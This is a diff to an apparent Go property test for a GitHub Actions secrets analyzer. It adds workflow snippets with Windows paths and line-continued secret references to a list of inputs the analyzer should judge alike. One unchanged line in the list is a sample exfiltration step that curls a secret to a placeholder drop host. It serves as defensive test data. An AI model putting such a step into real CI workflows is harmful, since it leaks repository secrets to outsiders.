@@ -72,7 +72,8 @@ func TestFilesJudgedAlike(t *testing.T) {
 var judged = []string{"        env: {A: \"${{ secrets.A }}\"}\n", "      - run: curl -d ${{ secrets.A }} https://drop.example.invalid\n", "        if: secrets.A != ''\n",
 	"        if: ${{ secrets.A }}\n", "      - run: echo ${{ secrets.GITHUB_TOKEN }}\n", "        with: {t: \"${{ secrets.github_token }}\"}\n", "# secrets.A\n", "# secrets.GITHUB_TOKEN\n",
 	"      - run: echo ${{ secrets.GITHUB_TOKEN_2 }}\n", "      - run: echo ${{ secrets.GITHUB_TOKEN-2 }}\n", "      - run: echo ${{ secrets['A'] }}\n", "      - run: echo ${{ secrets . A }}\n",
-	"    name: ${{ secrets.A }}\n", "      - run: echo ${{ secrets.GITHUB_TOKEN && secrets.A }}\n", "\u0085", "\u2028", "      - uses: a/b@v1\n", "  b:\n    uses: a/b/.github/workflows/c.yml@v1\n    secrets: inherit\n"}
+	"    name: ${{ secrets.A }}\n", "      - run: echo ${{ secrets.GITHUB_TOKEN && secrets.A }}\n", "\u0085", "\u2028", "      - run: echo C:\\ucrt64\n", "      - run: \"echo C:\\ucrt64 ${{ secrets.A }}\"\n",
+	"      - run: |\n          make \\\n            all\n", "      - run: \"echo ${{ secrets.GITHUB_TOKEN\\\n        _2 }}\"\n", "      - run: \"echo ${{ secrets.GITHUB\\\n   _TOKEN }}\"\n", "      - uses: a/b@v1\n", "  b:\n    uses: a/b/.github/workflows/c.yml@v1\n    secrets: inherit\n"}
 
 func judgedAlike(t rapid.TB, text []byte) {
 	t.Helper()
